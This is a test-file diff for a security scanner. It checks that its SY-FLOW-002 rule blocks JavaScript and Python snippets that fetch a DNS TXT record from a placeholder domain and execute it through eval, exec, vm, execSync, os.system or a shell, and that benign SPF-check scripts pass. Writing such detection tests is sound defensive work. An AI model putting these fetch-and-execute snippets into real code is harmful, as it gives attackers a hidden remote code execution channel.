@@ -1,0 +1,99 @@
+"""Shapes of the scanner's readers closed as classes, each with a look-alike on the other side that
+must keep its verdict.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from scanner_support import blocking
+
+# ------------------------------------------------ a DNS TXT record run as code outside the shell
+
+
+def test_js_txt_record_evaluated_in_its_callback_blocks(tmp_path: Path) -> None:
+    js = (
+        "const dns = require('dns');\n"
+        "dns.resolveTxt('cfg.zone.example.test', (err, recs) => {\n"
+        "  if (err) return;\n"
+        "  eval(recs.map((r) => r.join('')).join(''));\n"
+        "});\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"lib/boot.js": js})
+
+
+def test_js_txt_record_awaited_from_a_resolver_and_run_as_a_command_blocks(tmp_path: Path) -> None:
+    js = (
+        "import { Resolver } from 'node:dns/promises';\n"
+        "import { exec } from 'node:child_process';\n"
+        "const r = new Resolver();\n"
+        "const recs = await r.resolveTxt('cfg.zone.example.test');\n"
+        "exec(Buffer.from(recs[0].join(''), 'base64').toString());\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"lib/boot.mjs": js})
+
+
+def test_js_txt_record_run_in_a_vm_or_by_exec_sync_blocks(tmp_path: Path) -> None:
+    vm = (
+        "const dns = require('dns');\n"
+        "const vm = require('vm');\n"
+        "(async () => {\n"
+        "  const recs = await dns.promises.resolveTxt('cfg.zone.example.test');\n"
+        "  vm.runInThisContext(recs.flat().join(''));\n"
+        "})();\n"
+    )
+    cb = (
+        "const dns = require('dns');\n"
+        "const cp = require('child_process');\n"
+        "dns.resolveTxt('cfg.zone.example.test', (err, recs) => {\n"
+        "  if (!err) cp.execSync(recs[0].join(''));\n"
+        "});\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path / "a", {"lib/boot.js": vm})
+    assert "SY-FLOW-002" in blocking(tmp_path / "b", {"lib/boot.js": cb})
+
+
+def test_python_dig_txt_output_executed_blocks(tmp_path: Path) -> None:
+    py = (
+        "import subprocess\n\n"
+        'out = subprocess.check_output(["dig", "+short", "cfg.zone.example.test", "TXT"], text=True)\n'
+        "exec(out.strip().strip('\"'))\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"scripts/boot.py": py})
+
+
+def test_python_nslookup_txt_output_run_by_the_shell_blocks(tmp_path: Path) -> None:
+    system = (
+        "import os, subprocess\n\n"
+        'ans = subprocess.getoutput("nslookup -type=txt cfg.zone.example.test")\n'
+        "cmd = ans.split('\"')[1]\n"
+        "os.system(cmd)\n"
+    )
+    shell = (
+        "import subprocess\n\n"
+        'r = subprocess.run(["nslookup", "-type=TXT", "cfg.zone.example.test"], capture_output=True, text=True)\n'
+        "subprocess.run(r.stdout.split('\"')[1], shell=True)\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path / "a", {"scripts/boot.py": system})
+    assert "SY-FLOW-002" in blocking(tmp_path / "b", {"scripts/boot.py": shell})
+
+
+def test_txt_records_checked_and_printed_do_not_block(tmp_path: Path) -> None:
+    js = (
+        "const dns = require('dns');\n"
+        "const { execSync } = require('child_process');\n"
+        "(async () => {\n"
+        "  const recs = await dns.promises.resolveTxt(process.argv[2]);\n"
+        "  const spf = recs.map((r) => r.join('')).find((t) => t.startsWith('v=spf1'));\n"
+        "  console.log(spf || 'no SPF record');\n"
+        "  execSync('git status', { stdio: 'inherit' });\n"
+        "})();\n"
+    )
+    py = (
+        "import subprocess, sys\n\n"
+        'out = subprocess.check_output(["dig", "+short", sys.argv[1], "TXT"], text=True)\n'
+        "if 'v=spf1' not in out:\n"
+        "    print('no SPF record')\n"
+        'subprocess.run(["logger", out.strip()], check=False)\n'
+    )
+    assert blocking(tmp_path, {"lib/spf.js": js, "scripts/spf.py": py}) == {}
